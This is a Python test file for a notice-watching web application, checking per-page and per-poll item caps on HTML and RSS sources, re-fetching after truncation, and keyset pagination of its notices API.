def rss(count: int) -> bytes:
    items = "".join(
        f"<item><title>Nettoyage du centre de rétention administrative de Lesquin {n}</title>"
        f"<link>https://prefecture.example/a/{n}</link><guid>g{n}</guid></item>"
        for n in range(count)
    )
    return f'<?xml version="1.0"?><rss version="2.0"><channel>{items}</channel></rss>'.encode()


@pytest.mark.parametrize("kind", ["html", "feed"])
def test_row8_a_page_of_too_many_items_is_cut_and_the_rest_asked_again(
    make_runtime: Callable[..., Runtime], kind: str
) -> None:
    body = relevant_list(5000, 0) if kind == "html" else rss(5000)
    ctype = HTML if kind == "html" else {"Content-Type": "application/rss+xml"}
    with LoopbackServer(lambda _r: Reply(200, body, ctype)) as server:
        if kind == "html":
            yaml_text = html_yaml(server.url)
        else:
            yaml_text = f"sources:\n  - {{name: prefecture, kind: feed, url: '{server.url}/rss'}}\n"
        runtime = make_runtime(yaml_text, page_max_items=1000, poll_max_items=3000)
        [result] = run_sources(runtime.config.build(), runtime.context())
    assert result.ok, result.error
    assert result.fetched == 1000
    assert result.flagged and "WATCHER_PAGE_MAX_ITEMS" in result.flagged
    assert len(_stored(runtime)) == 1000
    with runtime.sessions() as session:
        state = session.scalar(select(SourceState))
        assert state is not None and state.last_success_at is None  # the window is asked again


def test_row8_a_poll_stops_at_its_item_cap(make_runtime: Callable[..., Runtime]) -> None:
    portal = BoampPortal()
    model = portal.records[0]
    portal.records = [{**model, "idweb": f"26-{n:06d}"} for n in range(500)]
    with LoopbackServer(portal) as server:
        runtime = make_runtime(
            f"sources:\n  - {{name: boamp, kind: boamp, base_url: '{server.url}', page_size: 100}}\n",
            poll_max_items=250,
        )
        [result] = run_sources(runtime.config.build(), runtime.context())
    assert result.ok, result.error
    assert result.fetched == 250 and result.pages == 3
    assert result.flagged and "WATCHER_POLL_MAX_ITEMS" in result.flagged


# Row 9: deep pages of `/api/notices`, `/sites/<slug>`, `/?q=`.


def test_row9_keyset_paging_walks_every_notice_and_deep_offsets_are_refused(
    make_runtime: Callable[..., Runtime], database_url: str
) -> None:
    from benchmarks.scale import grow  # noqa: PLC0415

    grow(database_url, 0, 450)
    runtime = make_runtime("sources: []\n")
    seen: list[int] = []
    with TestClient(create_app(runtime)) as client:
        deep = client.get("/api/notices?page=700&per_page=10")
        html_deep = client.get("/?page=700")
        url: str | None = "/api/notices?per_page=100&relevant=any"
        asked = 0
        while url:
            answer = client.get(url)
            assert answer.status_code == 200, answer.text
            body = answer.json()
            seen += [item["id"] for item in body["items"]]
            url = body["next"]
            asked += 1
            assert asked < 20
        total = body["total"]
        bad = client.get("/api/notices?after=abc")
    assert deep.status_code == 400 and "after" in deep.json()["error"]
    assert html_deep.status_code == 400
    assert bad.status_code == 400
    assert len(seen) == len(set(seen)) == total  # every notice once, none skipped
    assert all("after=" in u for u in [body.get("next") or "after="])
